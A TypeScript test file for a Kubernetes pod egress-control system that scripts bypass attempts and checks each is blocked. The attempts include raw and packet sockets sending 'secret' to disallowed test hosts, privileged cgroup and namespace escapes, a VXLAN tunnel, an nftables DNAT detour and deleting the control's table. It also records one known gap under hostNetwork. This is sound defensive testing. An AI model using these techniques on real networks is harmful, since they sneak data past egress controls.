/** Ways around, tried in pods: with the rights that a container has by default, and with more than a job should get. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { judge } from '../bypass/judge.ts';
import { makeAttempts } from '../bypass/prove.ts';
import type { Attempt } from '../bypass/technique.ts';
import { echo, ipv4, segment, udp } from '../bypass/techniques/packet-bytes.ts';
import { bad, row } from '../bypass/techniques/places.ts';
import { execute } from '../lab/execute.ts';
import { barrier } from './job.ts';
import { type LivePod, live } from './live.ts';
import { podGround } from './pod-ground.ts';
import { bad as elsewhere, good, setScene, skip } from './scene.ts';

/** From an address of the pods', whichever; a node drops what claims to be from itself. */
const datagram = (to: string, port = 5000): string =>
  ipv4({ to, from: '10.244.0.250', protocol: 17, payload: udp(port, 'secret') });
/** The backstop sees a packet and no process. */
const nobody = { comm: undefined } as const;

const attempts: readonly Attempt[] = [
  {
    step: `udp ${bad(20)} 5000 secret`,
    witness: { packets: bad(20) },
    record: { row: { ip: bad(20), port: 5000 }, said: /EPERM/ },
  },
  {
    step: `raw-packet ${bad(21)} ${datagram(bad(21))}`,
    what: 'a raw socket, UDP',
    witness: { packets: bad(21) },
    record: row('default', bad(21)),
  },
  {
    step: `raw 6 ${bad(22)} ${segment(8000, 'secret').toString('hex')}`,
    what: 'a raw socket, a segment of no connection',
    witness: { packets: bad(22) },
    record: row('default', bad(22)),
  },
  {
    step: `raw-packet ${good.address} ${datagram(bad(23))}`,
    what: 'a raw socket towards an allowed address, another in the header',
    witness: { packets: bad(23) },
    record: row('default', bad(23)),
  },
  {
    step: `raw 1 ${bad(24)} ${echo('secret').toString('hex')}`,
    what: 'a raw socket, an echo request',
    witness: { packets: bad(24) },
    record: row('icmp', bad(24)),
  },
  {
    step: `raw 47 ${bad(25)} 00000800`,
    what: 'a raw socket, GRE',
    witness: { packets: bad(25) },
    record: row('protocol', bad(25)),
  },
  {
    step: `frame ${datagram(bad(26))}`,
    what: 'a packet socket, UDP',
    witness: { packets: bad(26) },
    record: { row: { ip: bad(26), port: 5000, reason: 'default', ...nobody } },
  },
  {
    step: `frame ${datagram(bad(27), 53)}`,
    what: 'a packet socket, to a DNS server',
    witness: { packets: bad(27) },
    record: { row: { ip: bad(27), port: 53, reason: 'dns-server', ...nobody } },
  },
  {
    step: `udp-option mark=0x1 ${bad(28)} 5000 secret`,
    witness: { packets: bad(28) },
    record: row('default', bad(28)),
    opened: ['NET_ADMIN', 'NET_RAW'],
  },
  {
    step: `tcp-option transparent ${bad(29)} 8000 secret`,
    witness: { packets: bad(29) },
    record: row('default', bad(29)),
    opened: ['NET_ADMIN', 'NET_RAW'],
  },
  {
    step: `by cgroup-mount udp ${bad(30)} 5000 secret`,
    what: 'out of the pod’s cgroup, into the root of the tree',
    witness: { packets: bad(30) },
    record: { row: { ip: bad(30), port: 5000, reason: 'default', ...nobody } },
    opened: ['privileged'],
  },
  {
    step: `by cgroup-mount tcp ${bad(31)} 8000`,
    what: 'out of the pod’s cgroup, a connection',
    witness: { packets: bad(31) },
    record: { row: { ip: bad(31), port: 8000, reason: 'default', ...nobody } },
    opened: ['privileged'],
  },
  {
    step: `by cable udp ${bad(32)} 5000 secret`,
    what: 'from a network namespace behind the pod’s',
    witness: { packets: bad(32) },
    record: row('default', bad(32)),
    opened: ['privileged'],
  },
  {
    step: `raw-packet ${bad(33)} ${datagram(bad(33))}`,
    what: 'a raw socket in the node’s network',
    witness: { packets: bad(33) },
    record: row('default', bad(33)),
    opened: ['hostNetwork'],
  },
  {
    // docs/limits.md: nothing stands behind the cgroup there.
    step: `frame ${datagram(bad(34))}`,
    what: 'a packet socket in the node’s network gets through',
    witness: { packets: bad(34) },
    through: true,
    opened: ['hostNetwork'],
  },
];

test('ways around, in pods', { skip }, async (t) => {
  const scene = await setScene(t);
  const ground = await podGround(t, scene, attempts);
  const results = await makeAttempts(ground, attempts);
  for (const attempt of attempts) {
    const by = (attempt.opened ?? []).map((right) => ` ${right}`).join('');
    await t.test(`${attempt.what ?? attempt.step}${by}`, (t) => {
      const result = results.get(attempt);
      assert.ok(result, 'it was not tried');
      const missing = judge(result);
      if (missing !== undefined) t.skip(missing);
    });
  }
});

/** What a process with NET_ADMIN could do in the pod's network namespace, done there by programs of this machine. */
function inside(pod: LivePod, ...command: string[]): void {
  const [pause = 0] = pod.pids('pause');
  execute('nsenter', [`--net=/proc/${pause}/ns/net`, ...command]);
}

function nftIn(pod: LivePod, rules: string): void {
  const [pause = 0] = pod.pids('pause');
  execute('nsenter', [`--net=/proc/${pause}/ns/net`, 'nft', '-f', '-'], rules);
}

/** What goes to the second address goes to the first, wrapped in UDP by the kernel. */
const TUNNEL = `
  ip link add tunnel type vxlan id 5 remote "$1" dstport 4789 dev eth0
  ip link set tunnel up
  ip route add "$2/32" dev tunnel
  ip neigh add "$2" lladdr 02:00:00:00:00:77 dev tunnel
`;

test('without our table, or with another’s, nothing more gets out', { skip }, async (t) => {
  const scene = await setScene(t);
  const { cluster, internet, free, held } = scene;
  const dns = await internet.dnsmasq(
    [{ name: elsewhere.name, address: elsewhere.address }],
    '198.51.100.53',
  );
  const plan = { command: ['sleep', '600'] };
  const [loose, pod] = await Promise.all([
    live(cluster, free, 'loose', plan),
    live(cluster, held, 'table', { ...plan, init: [barrier()] }),
  ]);
  const get = (one: LivePod, host: string): Promise<string> =>
    one.exec('sh', '-c', `timeout 3 wget -qO- http://${host}:8000/table 2>&1; true`);
  const ask = (one: LivePod, name: string, server: string): Promise<string> =>
    one.exec('sh', '-c', `timeout 3 nslookup ${name} ${server} 2>&1; true`);

  await t.test('another’s table that leads an allowed place elsewhere', async () => {
    const rules = `table ip detour {
      chain out {
        type nat hook output priority -150
        ip daddr ${good.address} tcp dport 8000 dnat to ${elsewhere.address}:8000
      }
    }`;
    for (const one of [loose, pod]) nftIn(one, rules);
    const before = internet.packetsTo(elsewhere.address, 8000);
    assert.equal(await get(loose, good.address), 'ok\n');
    const between = internet.packetsTo(elsewhere.address, 8000);
    assert.ok(between > before, 'the control took the detour');
    const said = await get(pod, good.name);
    assert.doesNotMatch(said, /ok/);
    assert.equal(internet.packetsTo(elsewhere.address, 8000), between);
    for (const one of [loose, pod]) nftIn(one, 'delete table ip detour');
  });

  await t.test('a tunnel that an allowed connection is led into', async () => {
    const end = internet.addAddress('198.51.100.40');
    const through = async (one: LivePod): Promise<number> => {
      const before = internet.packetsTo(end, 4789);
      inside(one, 'sh', '-ec', TUNNEL, 'tunnel', end, good.address);
      await get(one, good.address);
      inside(one, 'ip', 'link', 'del', 'tunnel');
      return internet.packetsTo(end, 4789) - before;
    };
    assert.ok((await through(loose)) > 0, 'the control’s');
    assert.equal(await through(pod), 0);
    await scene.agent.untilRow('the tunnel’s row', ({ ip, port }) => ip === end && port === 4789);
  });

  await t.test('our table is deleted: names are refused, not asked elsewhere', async () => {
    assert.match(await ask(pod, good.name, '198.51.100.53'), new RegExp(good.address));
    assert.equal(dns.queries().length, 0);
    nftIn(pod, 'delete table inet torwacht');
    assert.doesNotMatch(
      await ask(pod, elsewhere.name, '198.51.100.53'),
      new RegExp(elsewhere.address),
    );
    assert.equal(dns.queries().length, 0);
    assert.match(await ask(loose, elsewhere.name, '198.51.100.53'), new RegExp(elsewhere.address));
    assert.ok(dns.queries().length > 0, 'the control asked it');
    assert.match(await get(pod, elsewhere.address), /Operation not permitted/);
  });
  await Promise.all([loose.delete(), pod.delete()]);
});
